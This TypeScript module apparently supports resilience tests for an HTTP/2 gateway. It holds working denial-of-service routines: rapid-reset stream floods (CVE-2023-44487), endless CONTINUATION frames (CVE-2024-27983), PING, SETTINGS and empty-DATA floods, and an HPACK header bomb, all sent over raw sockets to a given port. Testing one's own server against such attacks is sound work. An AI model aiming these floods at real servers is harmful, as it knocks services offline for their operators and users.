import type { Scope } from '../helpers/scope.ts'
import {
  block,
  type Field,
  FLAG,
  frame,
  frameClient,
  HELLO,
  headers,
  settings,
  TYPE,
  uint32,
} from '../http/support/http2-frames.ts'

const FIELDS: readonly Field[] = [
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/'],
  [':authority', 'a'],
]
const RESETS = 50_000
/** Streams of one connection, and bytes of each flood. */
const PER_CONNECTION = 1_000
const FLOOD = 8_000_000

/** Each attack sends all it can, on as many connections as it must open, and ends. */
export const ATTACKS: Readonly<Record<string, (scope: Scope, port: number) => Promise<void>>> = {
  async 'rapid reset of 50,000 streams (CVE-2023-44487)'(scope, port) {
    const pairs = Array.from({ length: PER_CONNECTION }, (_, i) => {
      const id = 2 * i + 1
      return Buffer.concat([headers(id, FIELDS), frame(TYPE.reset, 0, id, uint32(8))])
    })
    const bytes = Buffer.concat([HELLO, ...pairs])
    for (let sent = 0; sent < RESETS; sent += PER_CONNECTION) await pour(scope, port, bytes, 'closed')
  },
  'CONTINUATION without end (CVE-2024-27983)': (scope, port) =>
    flood(scope, port, frame(TYPE.continuation, 0, 1, block([['x', 'y'.repeat(1_000)]])), headers(1, FIELDS, 1)),
  PING: (scope, port) => flood(scope, port, frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  SETTINGS: (scope, port) => flood(scope, port, settings([4, 65_535])),
  'empty DATA': (scope, port) =>
    flood(scope, port, frame(TYPE.data, 0, 1), headers(1, [[':method', 'POST'], ...FIELDS.slice(1)], FLAG.endHeaders)),
  async 'a header bomb'(scope, port) {
    // One field of 4,000 bytes that is indexed, then asked for 4,000 times.
    const field = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x62)])
    const bomb = Buffer.concat([block(FIELDS), field, Buffer.alloc(4_000, 0xbe)])
    for (let i = 0; i < 10; i++) await pour(scope, port, Buffer.concat([HELLO, frame(TYPE.headers, 5, 1, bomb)]))
  },
}

async function flood(scope: Scope, port: number, unit: Buffer, first: Buffer = Buffer.alloc(0)): Promise<void> {
  const many = Buffer.concat(Array.from({ length: Math.ceil(FLOOD / unit.length) }, () => unit))
  await pour(scope, port, Buffer.concat([HELLO, first, many]), 'unread')
}

/** Sends bytes until they are sent or the gateway ends the connection, or takes no more; then leaves. */
async function pour(
  scope: Scope,
  port: number,
  bytes: Buffer,
  how: 'sent' | 'closed' | 'unread' = 'sent',
): Promise<void> {
  const { socket } = await frameClient(scope, port)
  if (how === 'unread') socket.pause()
  await new Promise<void>((resolve) => {
    const stuck = setTimeout(resolve, 500)
    const done = () => {
      clearTimeout(stuck)
      resolve()
    }
    socket.once('close', done)
    socket.write(bytes, how === 'closed' ? undefined : done)
  })
  socket.destroy()
}
